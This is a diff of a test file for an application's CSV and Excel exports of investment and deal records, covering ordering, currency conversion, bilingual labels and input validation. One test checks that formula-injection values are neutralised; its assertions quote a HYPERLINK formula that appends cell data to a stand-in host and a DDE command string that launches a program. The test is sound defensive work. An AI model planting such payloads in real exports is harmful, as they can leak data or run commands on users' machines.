@@ -5,30 +5,43 @@ import { afterAll, beforeAll, describe, expect, it } from 'vitest';
 import { loadDemoData } from '../../seeds/demo/load-demo.js';
 import { toGlobalId } from '../../server/src/graphql/global-id.js';
 import { graphql } from '../__generated__/gql.js';
-import type { ExportedInvestmentsQuery, InvestmentFilter } from '../__generated__/graphql.js';
+import type {
+  DealFilter,
+  DealOrder,
+  ExportedDealsQuery,
+  ExportedInvestmentsQuery,
+  InvestmentFilter,
+  InvestmentOrder,
+  InvestmentStage,
+} from '../__generated__/graphql.js';
+import { countryLabel, DEAL_KIND_LABELS, DEAL_PARTY_ROLE_LABELS, INVESTMENT_STAGE_LABELS, VERIFICATION_LABELS } from '../../server/src/domain/labels.js';
 import { signedIn } from '../helpers/access.js';
 import { Factory } from '../helpers/factories.js';
 import { createTestServer, DIALECTS, graphQLBody, type GraphQLResponse, type TestServer } from '../helpers/server.js';
 
 const ExportedInvestments = graphql(`
-  query ExportedInvestments($f: InvestmentFilter, $a: String) {
-    investments(filter: $f, first: 100, after: $a) {
+  query ExportedInvestments($f: InvestmentFilter, $o: [InvestmentOrder!], $a: String, $c: String!) {
+    investments(filter: $f, orderBy: $o, first: 100, after: $a) {
       nodes {
         id
         organization {
           name {
             en
+            zh
           }
           country
         }
         park {
           name {
             en
+            zh
           }
         }
         sector {
+          code
           name {
             en
+            zh
           }
         }
         stage
@@ -36,6 +49,10 @@ const ExportedInvestments = graphql(`
           amount
           currency
           amountUsd
+          converted(currency: $c) {
+            amount
+            currency
+          }
         }
         announcedOn
         expectedJobs
@@ -48,6 +65,75 @@ const ExportedInvestments = graphql(`
       pageInfo {
         hasNextPage
         endCursor
+      }
+    }
+  }
+`);
+
+const ExportedDeals = graphql(`
+  query ExportedDeals($f: DealFilter, $o: [DealOrder!], $a: String, $c: String!) {
+    deals(filter: $f, orderBy: $o, first: 100, after: $a) {
+      nodes {
+        id
+        signedOn
+        title {
+          en
+        }
+        kind
+        parties {
+          role
+          organization {
+            name {
+              en
+            }
+            country
+          }
+        }
+        unnamedPartyCount
+        partyCount
+        park {
+          name {
+            en
+          }
+        }
+        event {
+          name {
+            en
+          }
+        }
+        value {
+          amount
+          currency
+          amountUsd
+          converted(currency: $c) {
+            amount
+            currency
+          }
+        }
+        verification
+        recordedBy
+        sources {
+          quote
+        }
+      }
+      pageInfo {
+        hasNextPage
+        endCursor
+      }
+    }
+  }
+`);
+
+const ParkNames = graphql(`
+  query ExportParkNames {
+    parks(first: 100) {
+      nodes {
+        id
+        slug
+        name {
+          en
+          zh
+        }
       }
     }
   }
@@ -77,109 +163,288 @@ const CreateInvestment = graphql(`
   }
 `);
 
-/** A cell's value as text: strings and numbers as themselves (any other kind of value shows as its JSON). */
-const cellText = (value: ExcelJS.CellValue): string => (typeof value === 'object' ? JSON.stringify(value) : String(value));
+/** A cell's value as text: strings and numbers as themselves, dates as their day (any other kind as its JSON). */
+const cellText = (value: ExcelJS.CellValue): string =>
+  value instanceof Date ? value.toISOString().slice(0, 10) : typeof value === 'object' ? JSON.stringify(value) : String(value);
 
-describe.each(DIALECTS)('exporting investments on %s', (dialect) => {
+/** The headers of the investments export in English, as a person reads them. */
+const INVESTMENT_HEADERS = [
+  'ID',
+  'Investor',
+  'Investor country',
+  'Park',
+  'Sector',
+  'Stage',
+  'Amount',
+  'Currency',
+  'Amount (USD)',
+  'Amount in CNY (rate of 2026-11-24)',
+  'Announced on',
+  'Expected jobs',
+  'Provenance',
+  'Recorded by',
+  'Source quote',
+  'Investor country (code)',
+  'Sector (code)',
+  'Stage (code)',
+  'Provenance (code)',
+];
+/** Columns holding money, compared as numbers ("1500.2500" and "1500.25" are one amount). */
+const INVESTMENT_MONEY = [6, 8, 9];
+const DEAL_MONEY = [8, 10, 11];
+
+describe.each(DIALECTS)('exporting investments and deals on %s', (dialect) => {
   let server: TestServer;
   beforeAll(async () => {
     server = await createTestServer(dialect);
-    await loadDemoData(server.em(), { sizes: { organizations: 60, tenancies: 20, investments: 1200, deals: 20 } });
+    await loadDemoData(server.em(), { sizes: { organizations: 60, tenancies: 20, investments: 350, deals: 120 } });
   });
   afterAll(async () => {
     await server?.close();
   });
 
-  /** Every matching investment from the API, paging through, as the export's row (English) would state it. */
-  async function apiRows(filter: InvestmentFilter): Promise<string[][]> {
+  /** Every matching investment from the API in the API's order, as the export's row states it (labels in `lang`). */
+  async function apiRows(filter: InvestmentFilter, orderBy: InvestmentOrder[] = [], currency = 'CNY', lang: 'en' | 'zh' = 'en'): Promise<string[][]> {
     const rows: string[][] = [];
     let after: string | null = null;
     for (;;) {
-      const res: GraphQLResponse<ExportedInvestmentsQuery> = await server.gql(ExportedInvestments, { f: filter, a: after });
+      const res: GraphQLResponse<ExportedInvestmentsQuery> = await server.gql(ExportedInvestments, { f: filter, o: orderBy, a: after, c: currency });
       expect(res.errors, res.body).toBeUndefined();
       if (!res.data) throw new Error(res.body);
       for (const n of res.data.investments.nodes) {
         rows.push([
           n.id,
-          n.organization?.name.en ?? '',
-          n.organization?.country ?? '',
-          n.park.name.en,
-          n.sector.name.en,
-          n.stage,
+          n.organization?.name[lang] ?? '',
+          n.organization?.country ? countryLabel(n.organization.country)[lang] : '',
+          n.park.name[lang],
+          n.sector.name[lang],
+          INVESTMENT_STAGE_LABELS[n.stage][lang],
           n.amount?.amount ?? '',
           n.amount?.currency ?? '',
           n.amount?.amountUsd ?? '',
+          n.amount?.converted?.amount ?? '',
           n.announcedOn ?? '',
           n.expectedJobs == null ? '' : String(n.expectedJobs),
-          n.verification,
+          VERIFICATION_LABELS[n.verification][lang],
           n.recordedBy ?? '',
           n.sources[0]?.quote ?? '',
+          n.organization?.country ?? '',
+          n.sector.code,
+          n.stage,
+          n.verification,
         ]);
       }
       if (!res.data.investments.pageInfo.hasNextPage) return rows;
       after = res.data.investments.pageInfo.endCursor ?? null;
     }
   }
-  const apiIds = async (filter: InvestmentFilter) => (await apiRows(filter)).map((r) => r[0]);
-  /** Decimals compared as numbers ("1500.2500" and "1500.25" are one amount); everything else as text. */
-  const same = (row: string[]) => row.map((cell, i) => ([6, 8].includes(i) && cell !== '' ? String(Number(cell)) : cell));
-  const url = (format: string, params: Record<string, string>) => `${server.url}/export/investments.${format}?${new URLSearchParams(params).toString()}`;
-
-  it('streams exactly the rows the API answers for the same filter and period, with the filter in the file name', async () => {
-    const filter: InvestmentFilter = { stage: { in: ['SIGNED', 'OPERATING'] }, organization: { country: { in: ['KZ', 'RU', 'CN'] } } };
-    const res = await fetch(url('csv', { filter: JSON.stringify(filter), from: '2024-01-01', to: '2025-12-31' }));
-    expect(res.status).toBe(200);
-    expect(res.headers.get('content-type')).toMatch(/^text\/csv/);
-    expect(res.headers.get('content-disposition')).toContain('investments_2024-01-01_2025-12-31_stage-SIGNED+OPERATING_organization.country-KZ+RU+CN.csv');
-    const text = (await res.text()).replace(/^\uFEFF/, '');
-    const [header, ...rows] = parse(text, { relax_column_count: false });
-    expect(header).toEqual([
-      'ID',
-      'Investor',
-      'Investor country',
-      'Park',
-      'Sector',
-      'Stage',
-      'Amount',
-      'Currency',
-      'Amount (USD)',
-      'Announced on',
-      'Expected jobs',
-      'Provenance',
-      'Recorded by',
-      'Source quote',
-    ]);
-    const expected = await apiRows({ ...filter, announcedOn: { gte: '2024-01-01', lte: '2025-12-31' } });
-    expect(expected.length).toBeGreaterThan(20);
-    // Column by column: every cell of every row equals what the API answers for that investment.
-    expect(rows.map(same)).toEqual(expected.map(same));
-  });
-
-  it('pages through more rows than one page holds, and writes Chinese headers on request', async () => {
-    const res = await fetch(url('csv', { lang: 'zh' }));
-    const lines = (await res.text())
-      .replace(/^\uFEFF/, '')
-      .trim()
-      .split(/\r?\n/);
-    expect(lines[0]).toMatch(/^ID,投资方,投资方国家,园区/);
-    expect(lines.length - 1).toBe((await apiIds({})).length);
-    expect(lines.length - 1).toBeGreaterThan(1000);
-  });
-
-  it('writes the same rows as an Excel workbook with the filter on its own sheet', async () => {
-    const filter: InvestmentFilter = { sector: { eq: 'LOGISTICS' } };
-    const res = await fetch(url('xlsx', { filter: JSON.stringify(filter) }));
-    expect(res.status).toBe(200);
+  const same = (money: number[]) => (row: string[]) => row.map((cell, i) => (money.includes(i) && cell !== '' ? String(Number(cell)) : cell));
+  const url = (list: string, format: string, params: Record<string, string>) =>
+    `${server.url}/export/${list}.${format}?${new URLSearchParams(params).toString()}`;
+  const csvRows = async (res: Response) => parse((await res.text()).replace(/^\uFEFF/, ''), { relax_column_count: false });
+  const workbookOf = async (res: Response) => {
     const workbook = new ExcelJS.Workbook();
     await workbook.xlsx.load(await res.arrayBuffer()); // JSZip reads the ArrayBuffer as it is
-    const sheet = workbook.worksheets[0];
-    const rows: string[][] = [];
+    return workbook;
+  };
+  const sheetRows = (sheet: ExcelJS.Worksheet, width: number) => {
+    const rows: ExcelJS.Row[] = [];
     sheet.eachRow((row, n) => {
-      if (n > 1) rows.push(Array.from({ length: 14 }, (_, i) => (row.getCell(i + 1).value == null ? '' : cellText(row.getCell(i + 1).value))));
+      if (n > 1) rows.push(row);
     });
-    // Column by column, as in the CSV: every cell equals the API's answer (amounts and jobs are number cells).
-    expect(rows.map(same)).toEqual((await apiRows(filter)).map(same));
-    expect(cellText(workbook.worksheets[1].getCell('A1').value)).toContain('LOGISTICS');
+    return {
+      rows,
+      text: rows.map((row) => Array.from({ length: width }, (_, i) => (row.getCell(i + 1).value == null ? '' : cellText(row.getCell(i + 1).value)))),
+    };
+  };
+  const parks = async () => (await server.gql(ParkNames)).data!.parks.nodes;
+
+  it('streams the rows the API answers for the same filter, period and order (the table’s), with a file name that reads like the view', async () => {
+    const energy = (await parks()).find((p) => p.slug === 'sco-energy-valley')!;
+    const filter: InvestmentFilter = { park: { id: { in: [energy.id] } }, organization: { country: { in: ['KZ', 'RU', 'CN'] } } };
+    const res = await fetch(
+      url('investments', 'csv', { filter: JSON.stringify(filter), from: '2024-01-01', to: '2026-11-24', orderBy: 'AMOUNT_USD_DESC', currency: 'CNY' }),
+    );
+    expect(res.status).toBe(200);
+    expect(res.headers.get('content-type')).toMatch(/^text\/csv/);
+    expect(res.headers.get('content-disposition')).toBe(
+      `attachment; filename="investments-2024-01-01-to-2026-11-24-SCO-Energy-Valley-Kazakhstan-Russia-China.csv"; ` +
+        `filename*=UTF-8''investments-2024-01-01-to-2026-11-24-SCO-Energy-Valley-Kazakhstan-Russia-China.csv`,
+    );
+    const [header, ...rows] = await csvRows(res);
+    expect(header).toEqual(INVESTMENT_HEADERS);
+    const expected = await apiRows({ ...filter, announcedOn: { gte: '2024-01-01', lte: '2026-11-24' } }, ['AMOUNT_USD_DESC']);
+    expect(expected.length).toBeGreaterThan(10);
+    // Row by row in the API's order, column by column: every cell equals what the API answers for that investment.
+    expect(rows.map(same(INVESTMENT_MONEY))).toEqual(expected.map(same(INVESTMENT_MONEY)));
+    // The table's order really is a different order from the default one.
+    expect(rows.map((r) => r[0])).not.toEqual([...rows.map((r) => r[0])].sort());
+    const amounts = rows.map((r) => (r[8] === '' ? null : Number(r[8]))).filter((a) => a !== null);
+    expect(amounts).toEqual([...amounts].sort((a, b) => b - a));
+  });
+
+  it('pages through more rows than one page holds, in any order, and writes Chinese headers and labels on request', async () => {
+    const res = await fetch(url('investments', 'csv', { lang: 'zh', orderBy: 'STAGE_ASC,ANNOUNCED_ON_DESC' }));
+    const [header, ...rows] = await csvRows(res);
+    expect(header.slice(0, 6)).toEqual(['ID', '投资方', '投资方国家', '园区', '产业', '阶段']);
+    const expected = await apiRows({}, ['STAGE_ASC', 'ANNOUNCED_ON_DESC'], 'USD', 'zh');
+    expect(rows.length).toBeGreaterThan(300); // four pages of the API's 100
+    expect(rows.map(same(INVESTMENT_MONEY))).toEqual(expected.map(same(INVESTMENT_MONEY)));
+    expect(new Set(rows.map((r) => r[5]))).toEqual(new Set(['意向', '洽谈中', '已签约', '在建', '已投产']));
+  });
+
+  it('writes a workbook people can compute with: amounts are numbers in their currency’s format, dates are dates, stages are labels', async () => {
+    const filter: InvestmentFilter = { sector: { eq: 'LOGISTICS' } };
+    const res = await fetch(url('investments', 'xlsx', { filter: JSON.stringify(filter), currency: 'CNY', orderBy: 'ANNOUNCED_ON_ASC' }));
+    expect(res.status).toBe(200);
+    const workbook = await workbookOf(res);
+    const sheet = workbook.worksheets[0];
+    expect(sheet.getRow(1).values).toEqual([undefined, ...INVESTMENT_HEADERS]);
+    const { rows, text } = sheetRows(sheet, INVESTMENT_HEADERS.length);
+    const expected = await apiRows(filter, ['ANNOUNCED_ON_ASC']);
+    expect(text.map(same(INVESTMENT_MONEY))).toEqual(expected.map(same(INVESTMENT_MONEY)));
+    expect(rows.length).toBeGreaterThan(50);
+    for (const [i, row] of rows.entries()) {
+      const api = expected[i];
+      const cell = (n: number) => row.getCell(n + 1);
+      // Labels for people, codes for machines.
+      expect(cell(5).type).toBe(ExcelJS.ValueType.String);
+      expect(cell(5).value).toBe(INVESTMENT_STAGE_LABELS[api[17] as InvestmentStage].en);
+      expect(cell(4).value).toBe('Logistics & transport');
+      expect(cell(16).value).toBe('LOGISTICS');
+      if (api[6] !== '') {
+        // The amount: a number, formatted in its own currency; then USD; then the display currency.
+        expect(cell(6).type).toBe(ExcelJS.ValueType.Number);
+        expect(cell(6).value).toBe(Number(api[6]));
+        expect(cell(6).numFmt).toBe(api[7] === 'JPY' ? '#,##0 "JPY"' : `#,##0.00 "${api[7]}"`);
+        expect(cell(8).numFmt).toBe('#,##0.00 "USD"');
+        expect(cell(9).type).toBe(ExcelJS.ValueType.Number);
+        expect(cell(9).numFmt).toBe('#,##0.00 "CNY"');
+      } else expect(cell(6).type).toBe(ExcelJS.ValueType.Null);
+      if (api[10] !== '') {
+        expect(cell(10).type).toBe(ExcelJS.ValueType.Date);
+        expect(cell(10).value).toEqual(new Date(`${api[10]}T00:00:00Z`));
+      }
+      if (api[11] !== '') expect(cell(11).type).toBe(ExcelJS.ValueType.Number);
+    }
+    // SUM works: the CNY column adds up to the API's amounts converted to CNY.
+    const total = rows.reduce((sum, row) => {
+      const value = row.getCell(10).value;
+      return sum + (typeof value === 'number' ? value : 0);
+    }, 0);
+    const apiTotal = expected.reduce((sum, r) => sum + (r[9] === '' ? 0 : Number(r[9])), 0);
+    expect(total).toBeCloseTo(apiTotal, 2);
+  });
+
+  it('says the filter in sentences with names, in the reader’s language, and names the file in it too', async () => {
+    const energy = (await parks()).find((p) => p.slug === 'sco-energy-valley')!;
+    const filter: InvestmentFilter = { park: { id: { in: [energy.id] } }, stage: { in: ['SIGNED', 'OPERATING'] }, verification: { in: ['DEMO'] } };
+    const params = { filter: JSON.stringify(filter), from: '2025-12-02', to: '2026-11-24', orderBy: 'AMOUNT_USD_DESC', currency: 'CNY' };
+    const en = await fetch(url('investments', 'xlsx', params));
+    const about = (await workbookOf(en)).worksheets[1];
+    const lines = about
+      .getColumn(1)
+      .values.filter((v) => v != null)
+      .map(cellText);
+    const count = (await apiRows({ ...filter, announcedOn: { gte: '2025-12-02', lte: '2026-11-24' } })).length;
+    expect(lines).toEqual([
+      `${count} investments, exported on 2026-11-24.`,
+      'Park is SCO Energy Valley.',
+      'Stage is Signed or Operating.',
+      'Provenance is Demo data.',
+      'Announcement date is from 2025-12-02 to 2026-11-24.',
+      'Sorted: largest amount (in US dollars) first.',
+      expect.stringMatching(/^Amounts in CNY are converted from the stored US-dollar amounts at the rate of 2026-11-24: 1 CNY = 0\.\d+ USD/),
+    ]);
+    expect(lines.join('\n')).not.toContain(energy.id);
+    expect(en.headers.get('content-disposition')).toContain(
+      'filename="investments-2025-12-02-to-2026-11-24-SCO-Energy-Valley-Signed-Operating-Demo-data.xlsx"',
+    );
+
+    const zh = await fetch(url('investments', 'xlsx', { ...params, lang: 'zh' }));
+    const disposition = zh.headers.get('content-disposition')!;
+    // An ASCII name for every client, and the Chinese one (percent-encoded UTF-8) for those that read filename*.
+    expect(disposition).toContain('filename="investments-2025-12-02-to-2026-11-24-SCO-Energy-Valley-Signed-Operating-Demo-data.xlsx"');
+    expect(decodeURIComponent(/filename\*=UTF-8''(.+)$/.exec(disposition)![1])).toBe('投资项目-2025-12-02-至-2026-11-24-上合能谷-已签约-已投产-演示数据.xlsx');
+    const book = await workbookOf(zh);
+    expect(book.worksheets[0].getCell('F1').value).toBe('阶段');
+    expect(book.worksheets[0].getCell('F2').value).toMatch(/^(已签约|已投产)$/);
+    const zhLines = book.worksheets[1]
+      .getColumn(1)
+      .values.filter((v) => v != null)
+      .map(cellText);
+    expect(zhLines.slice(1, 5)).toEqual(['园区为上合能谷。', '阶段为已签约或已投产。', '数据来源为演示数据。', '公布日期自2025-12-02至2026-11-24。']);
+  });
+
+  /** Every matching deal from the API in the API's order, as the deals export's row states it (English). */
+  async function apiDeals(filter: DealFilter, orderBy: DealOrder[], currency: string): Promise<string[][]> {
+    const rows: string[][] = [];
+    let after: string | null = null;
+    for (;;) {
+      const res: GraphQLResponse<ExportedDealsQuery> = await server.gql(ExportedDeals, { f: filter, o: orderBy, a: after, c: currency });
+      expect(res.errors, res.body).toBeUndefined();
+      if (!res.data) throw new Error(res.body);
+      for (const d of res.data.deals.nodes) {
+        const parties = d.parties.map(
+          (p) =>
+            `${p.organization.name.en}${p.organization.country ? ` (${countryLabel(p.organization.country).en})` : ''} · ${DEAL_PARTY_ROLE_LABELS[p.role].en}`,
+        );
+        if (d.unnamedPartyCount) parties.push(`${d.unnamedPartyCount} unnamed ${d.unnamedPartyCount === 1 ? 'party' : 'parties'}`);
+        rows.push([
+          d.id,
+          d.signedOn,
+          d.title.en,
+          DEAL_KIND_LABELS[d.kind].en,
+          parties.join('; '),
+          String(d.partyCount),
+          d.park?.name.en ?? '',
+          d.event?.name.en ?? '',
+          d.value?.amount ?? '',
+          d.value?.currency ?? '',
+          d.value?.amountUsd ?? '',
+          d.value?.converted?.amount ?? '',
+          VERIFICATION_LABELS[d.verification].en,
+          d.recordedBy ?? '',
+          d.sources[0]?.quote ?? '',
+          d.kind,
+          [...new Set(d.parties.map((p) => p.organization.country).filter(Boolean))].join(' '),
+          d.verification,
+        ]);
+      }
+      if (!res.data.deals.pageInfo.hasNextPage) return rows;
+      after = res.data.deals.pageInfo.endCursor ?? null;
+    }
+  }
+
+  it('exports the deals the deals page lists for its filter, with their parties, as CSV and as a typed workbook', async () => {
+    // The deals page's filter for "a party from Kazakhstan, signed in 2024 or later", in the page's order.
+    const filter: DealFilter = { party: { country: { eq: 'KZ' } }, signedOn: { gte: '2024-01-01' } };
+    const params = { filter: JSON.stringify(filter), orderBy: 'SIGNED_ON_DESC', currency: 'USD' };
+    const expected = await apiDeals(filter, ['SIGNED_ON_DESC'], 'USD');
+    expect(expected.length).toBeGreaterThan(3);
+
+    const csv = await fetch(url('deals', 'csv', params));
+    expect(csv.status).toBe(200);
+    expect(csv.headers.get('content-disposition')).toContain('filename="deals-from-2024-01-01-Kazakhstan.csv"');
+    const [header, ...rows] = await csvRows(csv);
+    expect(header.slice(0, 6)).toEqual(['ID', 'Signed on', 'Title', 'Kind', 'Parties', 'Number of parties']);
+    expect(rows.map(same(DEAL_MONEY))).toEqual(expected.map(same(DEAL_MONEY)));
+    for (const row of rows) expect(row[4]).toContain('(Kazakhstan)');
+
+    const xlsx = await fetch(url('deals', 'xlsx', params));
+    const workbook = await workbookOf(xlsx);
+    const { rows: cells, text } = sheetRows(workbook.worksheets[0], 18);
+    expect(text.map(same(DEAL_MONEY))).toEqual(expected.map(same(DEAL_MONEY)));
+    for (const row of cells) {
+      expect(row.getCell(2).type).toBe(ExcelJS.ValueType.Date);
+      expect(row.getCell(6).type).toBe(ExcelJS.ValueType.Number);
+      if (row.getCell(9).value != null) expect(row.getCell(12).numFmt).toBe('#,##0.00 "USD"');
+    }
+    const lines = workbook.worksheets[1]
+      .getColumn(1)
+      .values.filter((v) => v != null)
+      .map(cellText);
+    expect(lines.slice(1, 3)).toEqual(['A party’s country is Kazakhstan.', 'Signing date is on or after 2024-01-01.']);
   });
 
   it('neutralises text that a spreadsheet would run as a formula, in CSV and XLSX, and keeps numbers numbers', async () => {
@@ -217,51 +482,62 @@ describe.each(DIALECTS)('exporting investments on %s', (dialect) => {
     const negative = factory.investment(factory.park().entity, {
       organization: factory.organization({ nameEn: '-2+3', nameZh: '-2+3' }),
       amountMinor: -150_025n,
+      amountCurrency: 'USD',
       amountUsdMinor: -150_025n,
     });
     await factory.flush();
     ids.push(toGlobalId('Investment', negative.id));
-    const params = { filter: JSON.stringify({ id: { in: ids } }) };
+    const params = { filter: JSON.stringify({ id: { in: ids } }), orderBy: 'ID_ASC', currency: 'USD' };
 
-    const csv = await fetch(url('csv', params));
+    const csv = await fetch(url('investments', 'csv', params));
     expect(csv.status).toBe(200);
     const text = (await csv.text()).replace(/^\uFEFF/, '');
     const lines = text.trim().split(/\r?\n/);
     expect(lines).toHaveLength(4);
     // csv-stringify quotes fields holding quotes; the cell's text starts with the single quote either way.
     expect(lines[1]).toContain(`"'=HYPERLINK(""http://x.example/""&A2,""Click me"")"`);
-    expect(lines[1]).toContain(`,1500.25,USD,1500.25,2025-03-01,40,RECORDED,'@Officer,`);
+    expect(lines[1]).toContain(`,Signed,1500.25,USD,1500.25,1500.25,2025-03-01,40,Recorded,'@Officer,`);
     expect(lines[2]).toContain(`,'+cmd|' /C calc'!A0,`);
     expect(lines[3]).toContain(`,'-2+3,`);
-    expect(lines[3]).toContain(`,-1500.25,USD,-1500.25,`);
+    expect(lines[3]).toContain(`,-1500.25,USD,-1500.25,-1500.25,`);
     for (const line of lines.slice(1)) expect(line).not.toMatch(/(^|,)"?[=+@\t\r]/);
 
-    const xlsx = await fetch(url('xlsx', params));
+    const xlsx = await fetch(url('investments', 'xlsx', params));
     expect(xlsx.status).toBe(200);
-    const workbook = new ExcelJS.Workbook();
-    await workbook.xlsx.load(await xlsx.arrayBuffer());
-    const sheet = workbook.worksheets[0];
+    const sheet = (await workbookOf(xlsx)).worksheets[0];
     const rows = [2, 3, 4].map((n) => sheet.getRow(n));
     expect(rows.map((r) => r.getCell(2).value)).toEqual([`'${names[0]}`, `'${names[1]}`, "'-2+3"]);
     expect(rows.map((r) => r.getCell(2).type)).toEqual([ExcelJS.ValueType.String, ExcelJS.ValueType.String, ExcelJS.ValueType.String]);
     expect(rows.map((r) => r.getCell(7).value)).toEqual([1500.25, 1500.25, -1500.25]);
     expect(rows.map((r) => r.getCell(9).type)).toEqual([ExcelJS.ValueType.Number, ExcelJS.ValueType.Number, ExcelJS.ValueType.Number]);
-    expect(rows[0].getCell(11).value).toBe(40);
-    expect(rows[0].getCell(13).value).toBe("'@Officer");
+    expect(rows[0].getCell(12).value).toBe(40);
+    expect(rows[0].getCell(14).value).toBe("'@Officer");
     sheet.eachRow((row) => row.eachCell((cell) => expect(cell.type).not.toBe(ExcelJS.ValueType.Formula)));
   });
 
-  it('refuses a bad filter or period with a clear 400 before any row', async () => {
-    for (const [params, field] of [
-      [{ filter: '{"stage": {"in": ["NOPE"]}}' }, 'filter'],
-      [{ filter: '{"unknownField": 1}' }, 'filter'],
-      [{ filter: 'not json' }, 'filter'],
-      [{ from: '2025-02-01', to: '2025-01-01' }, 'from'],
+  it('refuses a bad parameter with a clear 400 naming it, with a stable reason, before any row', async () => {
+    for (const [list, params, field, reason] of [
+      ['investments', { filter: '{"stage": {"in": ["NOPE"]}}' }, 'filter', 'INVALID'],
+      ['investments', { filter: '{"unknownField": 1}' }, 'filter', 'INVALID'],
+      ['investments', { filter: 'not json' }, 'filter', 'INVALID'],
+      ['investments', { filter: '{"park": {"id": {"eq": "nonsense"}}}' }, 'filter.park.id', 'INVALID'],
+      ['investments', { orderBy: 'AMOUNT_USD_DESC,SIDEWAYS' }, 'orderBy', 'INVALID'],
+      ['investments', { orderBy: 'SIGNED_ON_DESC' }, 'orderBy', 'INVALID'],
+      ['investments', { from: '2025-02-01', to: '2025-01-01' }, 'from', 'DATE_ORDER'],
+      ['investments', { from: '2025-02-30', to: '2025-03-01' }, 'from', 'INVALID'],
+      ['investments', { currency: 'XYZ' }, 'currency', 'UNKNOWN_CURRENCY'],
+      ['investments', { currency: 'JPY' }, 'currency', 'NO_RATE'],
+      ['investments', { lang: 'fr' }, 'lang', 'UNSUPPORTED'],
+      ['deals', { filter: '{"stage": {"eq": "SIGNED"}}' }, 'filter', 'INVALID'],
+      ['deals', { orderBy: 'AMOUNT_USD_DESC' }, 'orderBy', 'INVALID'],
     ] as const) {
-      const res = await fetch(url('csv', params));
+      const res = await fetch(url(list, 'csv', params));
       expect(res.status, JSON.stringify(params)).toBe(400);
-      expect((await graphQLBody(res)).errors?.[0].extensions).toMatchObject({ code: 'BAD_USER_INPUT', field });
+      const body = await graphQLBody(res);
+      expect(body.errors?.[0].extensions, JSON.stringify(params)).toMatchObject({ code: 'BAD_USER_INPUT', field, reason });
+      expect(JSON.stringify(body)).not.toMatch(/\bat .+\.ts:\d+/);
     }
     expect((await fetch(`${server.url}/export/investments.pdf`)).status).toBe(400);
+    expect((await fetch(`${server.url}/export/deals.pdf`)).status).toBe(400);
   });
 });
